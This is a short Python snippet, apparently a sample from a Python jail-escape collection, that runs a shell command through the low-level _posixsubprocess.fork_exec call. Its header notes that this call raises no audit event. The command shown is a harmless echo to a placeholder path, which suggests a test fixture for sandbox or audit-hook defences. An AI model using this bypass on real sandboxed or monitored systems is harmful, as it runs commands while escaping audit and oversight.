# technique: _posixsubprocess.fork_exec, which has no audit event
# goal: exec-command
# source: jailctf/pyjailbreaker
# python: 3.11
import _posixsubprocess
import posix
r, w = posix.pipe()
pid = _posixsubprocess.fork_exec(
    [b'/bin/sh', b'-c', b'echo x > @OUT@/file'], [b'/bin/sh'], True, (w,), None, None,
    -1, -1, -1, -1, -1, -1, r, w, True, False, 0, None, None, None, -1, None, False)
posix.waitpid(pid, 0)
